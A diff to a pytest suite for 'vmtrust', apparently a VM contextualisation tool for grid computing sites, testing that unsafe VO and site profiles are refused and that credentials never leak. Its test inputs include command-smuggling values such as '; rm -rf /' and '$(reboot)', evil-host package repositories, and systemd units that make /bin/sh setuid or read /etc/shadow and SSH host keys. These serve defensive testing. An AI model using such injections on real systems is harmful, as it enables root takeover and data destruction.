@@ -1,152 +1,75 @@
 """Contextualisation: site and VO profiles, what is refused, what is composed, size, secrets.
 
-Profiles are written as YAML into ``tmp_path`` and read back through the public
-API (:func:`vmtrust.context.load_site`, :func:`~vmtrust.context.load_vo`), so
-every refusal is seen as a site admin or a VO sees it: one line naming the file
-and the key.  The command line runs as a subprocess (the installed ``vmtrust``
-script) where stderr, exit status and file modes matter.
+Every refusal is seen as a site admin or a VO sees it: one line per problem,
+naming the file and the key.  The command line runs as a subprocess (the
+installed ``vmtrust`` script) where stderr, exit status and file modes matter.
+What the scripts *do* is tested by running them (test_context_boot.py), what a
+site's check allows in test_context_check.py.
 """
 
 from __future__ import annotations
 
 import base64
-import contextlib
-import copy
-import email
 import gzip
 import logging
 import random
+import shlex
 import stat
 import subprocess
-import sys
-from email.mime.multipart import MIMEMultipart
-from email.mime.text import MIMEText
 from pathlib import Path
 from typing import Any
 
 import pytest
-import yaml
+from context_support import (
+    ADMIN_KEY,
+    CA_PEM,
+    CVMFS_KEY,
+    DROP,
+    GPG_KEY,
+    PROXY,
+    SECRET,
+    SYSLOG,
+    TOKEN_FILE,
+    VO,
+    assert_one_line_naming,
+    cloud_config,
+    files_by_path,
+    load,
+    part,
+    refused,
+    run_cli,
+    shell_value,
+    site_file,
+    vo_file,
+    write_yaml,
+)
 
 from vmtrust import context
+from vmtrust.context import scripts
 from vmtrust.context.compose import compose
-from vmtrust.context.userdata import LIMITS, package
-from vmtrust.errors import ConfigError, InvalidConfiguration
-
-VMTRUST = Path(sys.executable).parent / "vmtrust"
-SECRET = "SECRET-TOKEN-123"
-PROXY = "http://squid1.example.org:3128|http://squid2.example.org:3128;DIRECT"
-ADMIN_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyForTestsOnly admin@example.org"
-CA_PEM = "-----BEGIN CERTIFICATE-----\nMIIBexampleCAforTests\n-----END CERTIFICATE-----\n"
-SYSLOG = "@@syslog.example.org:514"
-DROP = object()  #: in ``changes``: remove the key
-
-SITE: dict[str, Any] = {
-    "site": "EXAMPLE-SITE",
-    "cvmfs": {
-        "proxy": PROXY,
-        "quota_mb": 20000,
-        "cache_base": "/scratch/cvmfs",
-        "repositories": ["grid.cern.ch"],
-        "allowed_repositories": ["*.cern.ch", "*.egi.eu"],
-    },
-    "syslog": [SYSLOG],
-    "admin_ssh_keys": [ADMIN_KEY],
-    "ca_certificates": [CA_PEM],
-    "lifetime": {"max_seconds": 86400, "grace_seconds": 300},
-    "pilot_user": "cmspilot",
-    "vo_may": {
-        "packages": ["python3*", "singularity"],
-        "file_prefixes": ["/opt/", "/etc/vo/"],
-        "runcmd": True,
-    },
-}
-
-VO: dict[str, Any] = {
-    "vo": "cms",
-    "cvmfs": {"repositories": ["cms.cern.ch"]},
-    "lifetime": 43200,
-    "packages": ["python3-requests"],
-    "write_files": [{"path": "/opt/cms/site.json", "content": "{}\n", "permissions": "0644"}],
-    "runcmd": ["echo vo-command-marker"],
-    "pilot": {
-        "command": "/opt/cms/pilot.sh --queue T2_XX",
-        "config": {"path": "/etc/vo/pilot.cfg", "content": "queue=T2_XX\n"},
-        "credential": {"path": "/etc/vo/token", "content": SECRET},
-        "environment": {"QUEUE": "T2_XX"},
-    },
-}
-
-
-def _changed(base: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
-    """``base`` with dotted keys set (or removed with DROP)."""
-    data = copy.deepcopy(base)
-    for dotted, value in changes.items():
-        *parents, last = dotted.split(".")
-        target = data
-        for key in parents:
-            target = target.setdefault(key, {})
-        if value is DROP:
-            target.pop(last, None)
-        else:
-            target[last] = value
-    return data
-
-
-def write_yaml(path: Path, data: Any) -> Path:
-    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
-    return path
-
-
-def site_file(tmp_path: Path, **changes: Any) -> Path:
-    return write_yaml(tmp_path / "site.yaml", _changed(SITE, changes))
-
-
-def vo_file(tmp_path: Path, base: dict[str, Any] | None = None, **changes: Any) -> Path:
-    return write_yaml(tmp_path / "vo.yaml", _changed(VO if base is None else base, changes))
-
-
-def load(tmp_path: Path, site: dict | None = None, vo: dict | None = None):
-    s = context.load_site(site_file(tmp_path, **(site or {})))
-    v = context.load_vo(vo_file(tmp_path, **(vo or {})), s)
-    return s, v
-
-
-def cloud_config(data: bytes) -> dict[str, Any]:
-    """The (single) cloud-config of a user-data, as a dict."""
-    parts = [p for p in context.unpack(data) if p.content_type == "text/cloud-config"]
-    assert len(parts) == 1
-    return yaml.safe_load(parts[0].body)
-
-
-def files_by_path(config: dict[str, Any]) -> dict[str, dict[str, Any]]:
-    return {item["path"]: item for item in config.get("write_files", [])}
-
-
-def refused(call, *args) -> InvalidConfiguration:
-    with pytest.raises(ConfigError) as info:
-        call(*args)
-    return info.value
-
-
-def assert_one_line_naming(exc: Exception, path: Path, key: str) -> None:
-    text = str(exc)
-    assert "\n" not in text
-    assert str(path) in text
-    assert f": {key}:" in text
-
+from vmtrust.context.userdata import LIMITS
+from vmtrust.errors import InvalidConfiguration, VmtrustError
 
 # --- VO requests the site does not allow -------------------------------------------------
 
 VO_REFUSALS = [
     ({"users": [{"name": "intruder", "sudo": "ALL=(ALL) NOPASSWD:ALL"}]}, "users"),
+    ({"user": {"name": "vo", "ssh_authorized_keys": ["ssh-ed25519 AAAAvo"]}}, "user"),
+    ({"system_info": {"default_user": {"name": "vo", "sudo": "ALL=(ALL) ALL"}}}, "system_info"),
+    ({"password": "secret"}, "password"),
+    ({"ssh_pwauth": True}, "ssh_pwauth"),
     ({"groups": ["wheel"]}, "groups"),
     ({"ssh_authorized_keys": ["ssh-ed25519 AAAAvokey vo@example.org"]}, "ssh_authorized_keys"),
     ({"bootcmd": ["echo early"]}, "bootcmd"),
     ({"disable_root": False}, "disable_root"),
     ({"ca_certs": {"trusted": [CA_PEM]}}, "ca_certs"),
     ({"rsyslog": {"remotes": {"vo": "@@vo.example.org:514"}}}, "rsyslog"),
+    ({"yum_repos": {"evil": {"baseurl": "http://evil.example.org/"}}}, "yum_repos"),
+    ({"apt": {"sources": {"evil": {"source": "deb http://evil.example.org/ x main"}}}}, "apt"),
+    ({"snap": {"commands": ["snap install evil"]}}, "snap"),
     ({"power_state": {"mode": "poweroff", "delay": "now"}}, "power_state"),
     ({"mounts": [["/dev/vdb", "/data"]]}, "mounts"),
+    ({"fs_setup": [{"device": "/dev/vda", "filesystem": "ext4"}]}, "fs_setup"),
     ({"cvmfs.proxy": "http://vo-squid.example.org:3128"}, "cvmfs.proxy"),
     ({"cvmfs.repositories": ["evil.example.org"]}, "cvmfs.repositories"),
     ({"packages": ["nginx"]}, "packages"),
@@ -173,19 +96,36 @@ VO_REFUSALS = [
      "write_files[0].permissions"),
     ({"write_files": [{"path": "/opt/tool", "content": "x\n", "permissions": "rwxr-xr-x"}]},
      "write_files[0].permissions"),
+    ({"write_files": [{"path": "/opt/x", "content": "x", "append": True}]},
+     "write_files[0].append"),
     ({"lifetime": 86401}, "lifetime"),
     ({"lifetime": 10}, "lifetime"),
+    ({"lifetime": 300}, "lifetime"),  # not more than the site's grace: no time for the pilot
     ({"packges": ["python3-requests"]}, "packges"),
     ({"run\ncmd": ["x"]}, "'run\\ncmd'"),
-    ({"pilot.systemd_unit": "[Service]\nExecStart=/opt/pilot\n"}, "pilot"),
-    ({"pilot.command": DROP}, "pilot"),
-    ({"pilot.credential": {"path": "/root/token", "content": SECRET}},
+    ({"pilot.command": DROP}, "pilot.command"),
+    ({"pilot.command": "pilot.sh"}, "pilot.command"),
+    ({"pilot.command": "/opt/cms/pilot.sh --queue T2_XX"}, "pilot.command"),
+    ({"pilot.command": "/opt/a=b"}, "pilot.command"),
+    ({"pilot.arguments": ["--queue", "a\x1bb"]}, "pilot.arguments"),
+    ({"pilot.arguments": "--queue T2"}, "pilot.arguments"),
+    ({"pilot.environment": {"JOBOUTPUTS": "/tmp"}}, "pilot.environment.JOBOUTPUTS"),
+    ({"pilot.environment": {"MACHINEFEATURES": "/tmp"}}, "pilot.environment.MACHINEFEATURES"),
+    ({"pilot.environment": {"QUEUE": "a\x00b"}}, "pilot.environment.QUEUE"),
+    ({"pilot.credential": {"path": "/root/token", "file": TOKEN_FILE}},
      "pilot.credential.path"),
-    ({"pilot.credential": {"path": "/usr/share/token", "content": SECRET}},
+    ({"pilot.credential": {"path": "/usr/share/token", "file": TOKEN_FILE}},
      "pilot.credential.path"),
-    ({"pilot.command": DROP,
-      "pilot.systemd_unit": "[Service]\nExecStartPre=+/bin/chmod 4755 /bin/sh\n"},
+    ({"pilot.credential": {"path": "/etc/vo/token", "content": SECRET}},
+     "pilot.credential.content"),
+    ({"pilot.credential": {"path": "/etc/vo/token", "file": "missing.token"}},
+     "pilot.credential.file"),
+    ({"pilot.credential": {"path": "/etc/vo/pilot.cfg", "file": TOKEN_FILE}},
+     "write_files"),
+    ({"write_files": [{"path": "/etc/vo/token", "content": "x\n"}]}, "write_files"),
+    ({"pilot.systemd_unit": "[Service]\nExecStartPre=+/bin/chmod 4755 /bin/sh\n"},
      "pilot.systemd_unit"),
+    ({"pilot.unit_name": "sshd.service"}, "pilot.unit_name"),
     ({"pilot.commnd": "/opt/pilot"}, "pilot.commnd"),
 ]  # fmt: skip
 
@@ -195,19 +135,44 @@ def test_vo_request_the_site_does_not_allow_is_refused_naming_file_and_key(tmp_p
     site = context.load_site(site_file(tmp_path))
     path = vo_file(tmp_path, **changes)
     exc = refused(context.load_vo, path, site)
-    assert isinstance(exc, InvalidConfiguration)
+    assert isinstance(exc, context.ContextRefused)
+    assert exc.exit_code == 20
     assert exc.problems == [p for p in exc.problems if p.startswith(f"VO profile {path}: ")]
     assert len(exc.problems) == 1, exc.problems
     assert_one_line_naming(exc, path, key)
+    assert SECRET not in str(exc)
 
 
-def test_runcmd_is_refused_when_the_site_forbids_it(tmp_path):
-    site = context.load_site(site_file(tmp_path, **{"vo_may.runcmd": False}))
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "[Service]\nExecStartPre=/bin/true ; +/bin/sh -c 'id > /root/x'\nExecStart=/opt/p\n",
+        "[Service]\nExecStart=/opt/p \\\n+/bin/sh\n",
+        "[Service]\nExecStart=/opt/p\nStandardOutput=file:/etc/sudoers.d/vo\n",
+        "[Service]\nExecStart=/opt/p\nStandardInput=file:/etc/shadow\n",
+        "[Service]\nExecStart=/opt/p\nLoadCredential=k:/etc/ssh/ssh_host_ed25519_key\n",
+        "[Service]\nExecStart=/opt/p\nBindReadOnlyPaths=/etc/sudoers:/opt/sudoers\n",
+    ],
+    ids=["semicolon-plus", "continuation-plus", "stdout-file", "stdin-file", "load-credential",
+         "bind-paths"],
+)  # fmt: skip
+def test_a_vo_supplies_no_unit_text_at_all(tmp_path, unit):
+    """Each of these reached root through the VO's own unit; now no unit text is taken."""
+    site = context.load_site(site_file(tmp_path))
+    path = vo_file(tmp_path, **{"pilot.command": DROP, "pilot.systemd_unit": unit})
+    exc = refused(context.load_vo, path, site)
+    assert "pilot.systemd_unit: vmtrust writes the pilot's unit itself" in str(exc)
+
+
+def test_runcmd_is_refused_unless_the_site_allows_it(tmp_path):
+    site = context.load_site(site_file(tmp_path, **{"vo_may.runcmd": DROP}))
+    assert site.runcmd is False  # the HEPiX policy: no root-level configuration by the VO
     path = vo_file(tmp_path)
     exc = refused(context.load_vo, path, site)
     assert exc.problems == [f"VO profile {path}: runcmd: not allowed by the site"]
-    # without runcmd the same VO is accepted by that site
     assert context.load_vo(vo_file(tmp_path, runcmd=DROP), site).runcmd == ()
+    allowing = context.load_site(site_file(tmp_path, **{"vo_may.runcmd": True}))
+    assert context.load_vo(vo_file(tmp_path), allowing).runcmd == ("echo vo-command-marker",)
 
 
 def test_repositories_are_refused_by_a_site_without_cvmfs(tmp_path):
@@ -220,10 +185,24 @@ def test_repositories_are_refused_by_a_site_without_cvmfs(tmp_path):
 
 def test_write_files_outside_allowed_prefixes_names_the_prefixes(tmp_path):
     site = context.load_site(site_file(tmp_path, **{"vo_may.file_prefixes": ["/srv/vo/"]}))
-    path = vo_file(tmp_path, **{"pilot.config": DROP, "pilot.credential": DROP,
-                                "pilot.environment": DROP})  # fmt: skip
+    path = vo_file(tmp_path, **{"pilot.config": DROP, "pilot.credential": DROP})
     exc = refused(context.load_vo, path, site)
     assert "/opt/cms/site.json is outside the locations the site allows (/srv/vo/)" in str(exc)
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/usr/local/libexec/vmtrust/pilot-start", "/var/lib/vmtrust/joboutputs/x",
+     "/etc/jobfeatures/job_id", "/etc/yum.repos.d/x.repo", "/etc/apt/sources.list.d/x.list",
+     "/etc/systemd/system/vmtrust-pilot.service", "/etc/fstab", "/etc/profile.d/x.sh"],
+)  # fmt: skip
+def test_vmtrust_and_system_locations_stay_the_sites_even_under_a_broad_prefix(tmp_path, path):
+    site = context.load_site(
+        site_file(tmp_path, **{"vo_may.file_prefixes": ["/etc/", "/usr/", "/var/"]})
+    )
+    vo = vo_file(tmp_path, write_files=[{"path": path, "content": "x\n"}])
+    exc = refused(context.load_vo, vo, site)
+    assert f"write_files[0].path: {path} is a site-controlled location" in str(exc)
 
 
 @pytest.mark.parametrize(
@@ -265,6 +244,78 @@ def test_every_problem_of_a_vo_profile_is_reported_at_once(tmp_path):
     assert "\n" not in str(exc)
 
 
+# --- the credential: from a file at build time, never printed ------------------------------
+
+
+def test_credential_is_read_from_its_file_beside_the_profile(tmp_path):
+    site, vo = load(tmp_path)
+    (credential,) = [f for f in vo.pilot.files if f.key == "credential"]
+    assert (credential.path, credential.content) == ("/etc/vo/token", SECRET)
+    files = files_by_path(cloud_config(context.build(site, vo)))
+    assert files["/etc/vo/token"]["content"] == SECRET
+
+
+@pytest.mark.parametrize(
+    ("setup", "reason"),
+    [
+        (lambda p: p.chmod(0o644), "readable by every user of this machine"),
+        (lambda p: p.write_bytes(b""), "empty"),
+        (lambda p: p.write_bytes(b"\xff\xfe" + SECRET.encode()), "not UTF-8 text"),
+        (lambda p: p.write_bytes(b"x" * 70000), "larger than 65536 bytes"),
+        (lambda p: (p.unlink(), p.mkdir()), "is a directory"),
+    ],
+    ids=["world-readable", "empty", "not-utf8", "too-big", "directory"],
+)
+def test_a_credential_file_that_is_not_fit_is_refused_without_its_content(tmp_path, setup, reason):
+    site = context.load_site(site_file(tmp_path))
+    path = vo_file(tmp_path)
+    setup(tmp_path / TOKEN_FILE)
+    exc = refused(context.load_vo, path, site)
+    (problem,) = exc.problems
+    assert problem.startswith(f"VO profile {path}: pilot.credential.file: {TOKEN_FILE}: {reason}")
+    assert SECRET not in str(exc)
+
+
+def test_credential_never_appears_in_repr_or_logs_of_a_build(tmp_path, caplog):
+    caplog.set_level(logging.DEBUG)
+    site, vo = load(tmp_path)
+    context.build(site, vo, cloud="ec2")
+    context.explain(context.build(site, vo), site)
+    assert SECRET not in repr(vo)
+    assert SECRET not in caplog.text
+    assert all(SECRET not in record.getMessage() for record in caplog.records)
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"users": ["intruder"]},
+        {"pilot.credential": {"path": "/root/token", "file": TOKEN_FILE}},
+        {"pilot.credential": {"path": "/etc/vo/token", "file": TOKEN_FILE, "mode": "0400"}},
+        {"pilot.credential": {"path": "/etc/vo/token", "content": SECRET}},
+        {"pilot.environment": {"BAD-NAME": SECRET}},
+        {"pilot.credential": SECRET},
+    ],
+    ids=["other-key", "bad-path", "extra-key", "pasted", "env", "not-a-mapping"],
+)
+def test_credential_never_appears_in_a_refusal(tmp_path, caplog, changes):
+    caplog.set_level(logging.DEBUG)
+    site = context.load_site(site_file(tmp_path))
+    path = vo_file(tmp_path, **changes)
+    exc = refused(context.load_vo, path, site)
+    assert SECRET not in str(exc)
+    assert all(SECRET not in problem for problem in exc.problems)
+    assert SECRET not in caplog.text
+
+
+def test_credential_is_not_echoed_from_broken_yaml(tmp_path):
+    site = context.load_site(site_file(tmp_path))
+    path = tmp_path / "vo.yaml"
+    path.write_text(f"vo: cms\npilot:\n  credential: {{path: /etc/vo/token, content: {SECRET}\n")
+    exc = refused(context.load_vo, path, site)
+    assert "not valid YAML" in str(exc) and SECRET not in str(exc)
+
+
 # --- bad site profiles ------------------------------------------------------------------
 
 SITE_REFUSALS = [
@@ -274,8 +325,46 @@ SITE_REFUSALS = [
     ({"cvmfs.proxy": "http://squid example.org:3128"}, "cvmfs.proxy"),
     ({"cvmfs.quota_mb": 999}, "cvmfs.quota_mb"),
     ({"cvmfs.repositories": ["not a repo"]}, "cvmfs.repositories"),
+    ({"cvmfs.allowed_repositories": ["*.cern.ch; rm"]}, "cvmfs.allowed_repositories"),
     ({"cvmfs.client_profile": "multi"}, "cvmfs.client_profile"),
     ({"cvmfs.proxies": PROXY}, "cvmfs.proxies"),
+    ({"cvmfs.install": "yes"}, "cvmfs.install"),
+    ({"cvmfs.pac_urls": ["http://wpad.example.org/wpad.dat"]}, "cvmfs.pac_urls"),  # no 'auto'
+    ({"cvmfs.proxy": "auto;DIRECT", "cvmfs.pac_urls": ["wpad.dat"]}, "cvmfs.pac_urls"),
+    ({"cvmfs.fallback_proxy": "DIRECT"}, "cvmfs.fallback_proxy"),
+    ({"cvmfs.cache_base": "relative/cache"}, "cvmfs.cache_base"),
+    ({"cvmfs.cache_base": "/scratch/$(reboot)"}, "cvmfs.cache_base"),
+    ({"cvmfs.domains": {"example.org": {"server_urls": ["http://s1/'x"], "keys": [CVMFS_KEY]}}},
+     "cvmfs.domains.example.org.server_urls"),
+    ({"cvmfs.domains": {"example.org": {"server_urls": ["http://s1.example.org/cvmfs/@fqrn@"],
+                                        "keys": ["not a key"]}}},
+     "cvmfs.domains.example.org.keys"),
+    ({"cvmfs.domains": {"example.org": {"server_urls": [], "keys": [CVMFS_KEY]}}},
+     "cvmfs.domains.example.org.server_urls"),
+    ({"cvmfs.domains": {"bad domain": {}}}, "cvmfs.domains"),
+    ({"package_sources": {"proxy": "squid:3128"}}, "package_sources.proxy"),
+    ({"package_sources": {"cvmfs_mirror": {"el": "https://m.example.org/el/"}}},
+     "package_sources.cvmfs_mirror.gpg_key"),
+    ({"package_sources": {"cvmfs_mirror": {"debian": "https://m.example.org/apt",
+                                           "gpg_key": GPG_KEY}}},
+     "package_sources.cvmfs_mirror.debian"),
+    ({"package_sources": {"cvmfs_mirror": {"el": "ftp://m/", "gpg_key": GPG_KEY}}},
+     "package_sources.cvmfs_mirror.el"),
+    ({"package_sources": {"epel": "yes"}}, "package_sources.epel"),
+    ({"package_sources": {"mirror": "x"}}, "package_sources.mirror"),
+    ({"scratch": {"device": "vdb", "mount": "/scratch"}}, "scratch.device"),
+    ({"scratch": {"device": "ephemeral0", "mount": "/etc"}}, "scratch.mount"),
+    ({"scratch": {"device": "ephemeral0", "mount": "/usr/local/scratch"}}, "scratch.mount"),
+    ({"scratch": {"device": "ephemeral0"}}, "scratch.mount"),
+    ({"scratch": {"device": "ephemeral0", "mount": "/scratch", "filesystem": "vfat"}},
+     "scratch.filesystem"),
+    ({"machine_features": {"hs06_per_cpu": "fast"}}, "machine_features.hs06_per_cpu"),
+    ({"machine_features": {"jobslots": 0}}, "machine_features.jobslots"),
+    ({"machine_features": {"extra": {"total_cpu": 8}}}, "machine_features.extra"),
+    ({"machine_features": {"extra": {"Bad Name": 1}}}, "machine_features.extra"),
+    ({"machine_features": {"extra": {"site_x": "a\nb"}}}, "machine_features.extra.site_x"),
+    ({"joboutputs": {"upload_url": "http://x/'; reboot"}}, "joboutputs.upload_url"),
+    ({"joboutputs": {"heartbeat_seconds": 5}}, "joboutputs.heartbeat_seconds"),
     ({"syslog": ["syslog.example.org:514"]}, "syslog"),
     ({"syslog": ["@@syslog.example.org:514; rm -rf /"]}, "syslog"),
     ({"sitename": "X"}, "sitename"),
@@ -283,13 +372,15 @@ SITE_REFUSALS = [
     ({"ca_certificates": ["not a certificate"]}, "ca_certificates"),
     ({"lifetime.max_seconds": 10}, "lifetime.max_seconds"),
     ({"lifetime.grace_seconds": -1}, "lifetime.grace_seconds"),
+    ({"lifetime.grace_seconds": 86400}, "lifetime.grace_seconds"),
     ({"lifetime.max_second": 3600}, "lifetime.max_second"),
     ({"vo_may.packages": "python3*"}, "vo_may.packages"),
     ({"pilot_user": "Root User"}, "pilot_user"),
+    ({"pilot_user": "root"}, "pilot_user"),
     ({"vo_may.file_prefixes": ["opt"]}, "vo_may.file_prefixes"),
     ({"vo_may.runcmd": "yes"}, "vo_may.runcmd"),
     ({"vo_may.run_cmd": True}, "vo_may.run_cmd"),
-]
+]  # fmt: skip
 
 
 @pytest.mark.parametrize(("changes", "key"), SITE_REFUSALS, ids=[k for _, k in SITE_REFUSALS])
@@ -297,6 +388,7 @@ def test_bad_site_profile_is_refused_naming_file_and_key(tmp_path, changes, key)
     path = site_file(tmp_path, **changes)
     exc = refused(context.load_site, path)
     assert isinstance(exc, InvalidConfiguration)
+    assert exc.exit_code == 4  # the site's own configuration, not a policy refusal
     assert len(exc.problems) == 1, exc.problems
     assert exc.problems[0].startswith(f"site profile {path}: {key}: ")
     assert_one_line_naming(exc, path, key)
@@ -308,6 +400,8 @@ SHAPE_ERRORS = [
     ("site", {"vo_may": ["packages"]}, "vo_may"),
     ("site", {"syslog": "@@syslog.example.org:514"}, "syslog"),
     ("site", {"site": ""}, "site"),
+    ("site", {"scratch": "/dev/vdb"}, "scratch"),
+    ("site", {"cvmfs.domains": ["example.org"]}, "cvmfs.domains"),
     ("vo", {"cvmfs": ["cms.cern.ch"]}, "cvmfs"),
     ("vo", {"cvmfs.repositories": ["CMS CERN"]}, "cvmfs.repositories"),
     ("vo", {"packages": ["python3-x; rm -rf /"]}, "packages"),
@@ -317,11 +411,11 @@ SHAPE_ERRORS = [
     ("vo", {"write_files": [{"path": "/opt/x", "content": "x", "owner": "root"}]},
      "write_files[0].owner"),
     ("vo", {"pilot": "/opt/pilot.sh"}, "pilot"),
-    ("vo", {"pilot.unit_name": "vo-pilot.timer"}, "pilot.unit_name"),
     ("vo", {"pilot.environment": ["QUEUE=x"]}, "pilot.environment"),
     ("vo", {"pilot.environment": {"QUEUE": ["x"]}}, "pilot.environment.QUEUE"),
     ("vo", {"pilot.environment": {"BAD-NAME": "x"}}, "pilot.environment"),
     ("vo", {"pilot.config": {"path": "/etc/vo/pilot.cfg", "content": ""}}, "pilot.config"),
+    ("vo", {"pilot.config": {"path": "/etc/vo/pilot.cfg"}}, "pilot.config"),
     ("vo", {"lifetime": "12h"}, "lifetime"),
     ("vo", {"vo": DROP}, "vo"),
     ("vo", {"runcmd": "echo not a list"}, "runcmd"),
@@ -369,7 +463,7 @@ def test_unreadable_or_invalid_profile_file_is_one_line_naming_the_file(
         path.mkdir()
     elif content is not None:
         path.write_bytes(content)
-    with pytest.raises(ConfigError) as info:
+    with pytest.raises(VmtrustError) as info:
         if loader == "site":
             context.load_site(path)
         else:
@@ -379,6 +473,7 @@ def test_unreadable_or_invalid_profile_file_is_one_line_naming_the_file(
     assert str(path) in text
     assert reason.lower() in text.lower()
     assert text.startswith("site profile" if loader == "site" else "VO profile")
+    assert info.value.exit_code == 4
 
 
 # --- composition: the site's parts are always there and win ------------------------------
@@ -388,19 +483,6 @@ def test_unreadable_or_invalid_profile_file_is_one_line_naming_the_file(
 def built(tmp_path) -> tuple[context.SiteProfile, context.VoProfile, bytes]:
     site, vo = load(tmp_path)
     return site, vo, context.build(site, vo)
-
-
-def _source(default_local: str, tmp_path: Path, name: str) -> str:
-    """A variable as /bin/sh sees it after sourcing default.local (as cvmfs does)."""
-    script = tmp_path / "default.local"
-    script.write_text(default_local, encoding="utf-8")
-    out = subprocess.run(
-        ["/bin/sh", "-c", f'. "$1"; printf %s "${name}"', "sh", str(script)],
-        capture_output=True,
-        text=True,
-        check=True,
-    )
-    return out.stdout
 
 
 @pytest.mark.parametrize(
@@ -418,11 +500,64 @@ def test_default_local_carries_the_site_proxy_cache_and_all_repositories(tmp_pat
     assert local["permissions"] == "0644"
     assert local["owner"] == "root:root"
     body = local["content"]
-    assert _source(body, tmp_path, "CVMFS_HTTP_PROXY") == proxy
-    assert _source(body, tmp_path, "CVMFS_QUOTA_LIMIT") == "20000"
-    assert _source(body, tmp_path, "CVMFS_CACHE_BASE") == "/scratch/cvmfs"
-    assert _source(body, tmp_path, "CVMFS_REPOSITORIES") == "grid.cern.ch,cms.cern.ch"
+    assert shell_value(body, "CVMFS_HTTP_PROXY", tmp_path) == proxy
+    assert shell_value(body, "CVMFS_QUOTA_LIMIT", tmp_path) == "20000"
+    assert shell_value(body, "CVMFS_CACHE_BASE", tmp_path) == "/scratch/cvmfs"
+    assert shell_value(body, "CVMFS_REPOSITORIES", tmp_path) == "grid.cern.ch,cms.cern.ch"
     assert "CVMFS_CONFIG_REPOSITORY" not in body
+    assert "CVMFS_SERVER_URL" not in body  # Stratum 1s are per domain, never for all
+
+
+def test_a_proxy_only_site_gets_pac_fallback_and_its_own_domains(tmp_path):
+    site, vo = load(
+        tmp_path,
+        site={
+            "cvmfs.proxy": "auto;http://squid.example.org:3128",
+            "cvmfs.pac_urls": ["http://wpad.example.org/wpad.dat", "auto"],
+            "cvmfs.fallback_proxy": "http://fallback.example.org:3128",
+            "cvmfs.allowed_repositories": ["*.cern.ch", "*.example.org"],
+            "cvmfs.domains": {"example.org": {
+                "server_urls": ["http://s1.example.org/cvmfs/@fqrn@",
+                                "http://s2.example.org/cvmfs/@fqrn@"],
+                "keys": [CVMFS_KEY]}},
+        },
+        vo={"cvmfs.repositories": ["cms.cern.ch", "sw.example.org"]},
+    )  # fmt: skip
+    files = files_by_path(cloud_config(context.build(site, vo)))
+    local = files["/etc/cvmfs/default.local"]["content"]
+    assert shell_value(local, "CVMFS_PAC_URLS", tmp_path) == "http://wpad.example.org/wpad.dat;auto"
+    assert (
+        shell_value(local, "CVMFS_FALLBACK_PROXY", tmp_path) == "http://fallback.example.org:3128"
+    )
+    assert "sw.example.org" in shell_value(local, "CVMFS_REPOSITORIES", tmp_path)
+    domain = files["/etc/cvmfs/domain.d/example.org.local"]["content"]
+    assert shell_value(domain, "CVMFS_SERVER_URL", tmp_path) == (
+        "http://s1.example.org/cvmfs/@fqrn@;http://s2.example.org/cvmfs/@fqrn@"
+    )
+    assert shell_value(domain, "CVMFS_KEYS_DIR", tmp_path) == "/etc/cvmfs/keys/example.org"
+    key = files["/etc/cvmfs/keys/example.org/example.org-1.pub"]
+    assert (key["content"], key["permissions"], key["owner"]) == (CVMFS_KEY, "0644", "root:root")
+
+
+def test_a_site_mirror_replaces_the_release_packages(tmp_path):
+    mirror = {"el": "https://mirror.example.org/cvmfs/EL/$releasever/$basearch/",
+              "debian": "https://mirror.example.org/cvmfs/apt bookworm-prod main",
+              "gpg_key": GPG_KEY}  # fmt: skip
+    site, vo = load(tmp_path, site={"package_sources": {"proxy": "http://squid.example.org:3128",
+                                                        "cvmfs_mirror": mirror}})  # fmt: skip
+    data = context.build(site, vo)
+    files = files_by_path(cloud_config(data))
+    repo = files["/etc/yum.repos.d/vmtrust-cvmfs.repo"]["content"]
+    assert f"baseurl={mirror['el']}\n" in repo and "gpgcheck=1\n" in repo
+    assert "gpgkey=file:///etc/pki/rpm-gpg/RPM-GPG-KEY-vmtrust-cvmfs\n" in repo
+    assert files["/etc/pki/rpm-gpg/RPM-GPG-KEY-vmtrust-cvmfs"]["content"] == GPG_KEY
+    assert files["/etc/apt/sources.list.d/vmtrust-cvmfs.list"]["content"] == (
+        "deb [signed-by=/etc/apt/keyrings/vmtrust-cvmfs.asc] "
+        "https://mirror.example.org/cvmfs/apt bookworm-prod main\n"
+    )
+    software = part(data, scripts.SOFTWARE)
+    assert "MIRROR_EL=yes\nMIRROR_DEBIAN=yes\n" in software
+    assert "PROXY=http://squid.example.org:3128\n" in software
 
 
 def test_site_parts_are_present(built):
@@ -434,24 +569,37 @@ def test_site_parts_are_present(built):
     assert config["rsyslog"] == {"remotes": {"site0": SYSLOG}}
     assert config["ca_certs"] == {"trusted": [CA_PEM]}
     assert config["users"][0] == "default"
-    assert config["users"][1]["name"] == "cmspilot"
-    assert config["users"][1]["lock_passwd"] is True
-    assert set(config["users"][1]) == {"name", "gecos", "shell", "lock_passwd", "no_user_group"}
-    assert config["packages"] == ["python3-requests"]
-    assert "merge_how" not in config and "bootcmd" not in config
+    pilot = config["users"][1]
+    assert (pilot["name"], pilot["homedir"], pilot["lock_passwd"]) == (
+        "cmspilot", "/home/cmspilot", True,
+    )  # fmt: skip
+    assert set(pilot) == {"name", "gecos", "homedir", "shell", "lock_passwd", "no_user_group"}
+    # vmtrust runs nothing through cloud-init's runcmd, bootcmd or packages: they run too late
+    # (runcmd after every script) or too early (before the lifetime is armed)
+    assert not {"runcmd", "bootcmd", "packages", "merge_how"} & set(config)
 
 
-def test_vo_cannot_displace_the_site_default_local(tmp_path):
-    site = context.load_site(site_file(tmp_path, **{"vo_may.file_prefixes": ["/etc/", "/opt/"]}))
-    path = vo_file(
-        tmp_path,
-        write_files=[{"path": "/etc/cvmfs/default.local", "content": "CVMFS_HTTP_PROXY=DIRECT\n"}],
-    )
-    exc = refused(context.load_vo, path, site)
-    assert "write_files[0].path: /etc/cvmfs/default.local is a site-controlled location" in str(exc)
+def test_scratch_slot_is_formatted_mounted_and_given_to_the_pilot(tmp_path):
+    site, vo = load(
+        tmp_path, site={"scratch": {"device": "ephemeral0", "mount": "/scratch",
+                                    "filesystem": "xfs"}}
+    )  # fmt: skip
+    data = context.build(site, vo)
+    config = cloud_config(data)
+    assert config["fs_setup"] == [{"label": "scratch", "filesystem": "xfs",
+                                   "device": "ephemeral0", "partition": "auto",
+                                   "overwrite": True}]  # fmt: skip
